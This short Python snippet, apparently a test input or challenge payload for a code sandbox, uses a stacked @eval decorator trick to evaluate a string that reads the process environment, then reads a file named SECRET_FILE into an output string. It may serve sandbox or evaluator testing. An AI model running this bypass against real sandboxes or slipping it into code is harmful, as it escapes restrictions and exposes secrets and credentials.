# tries: lets a decorator evaluate text
@eval
@lambda f: "__import__('os').environ"
class X:
    pass
answer = "OUT " + str(X) + open(SECRET_FILE).read()
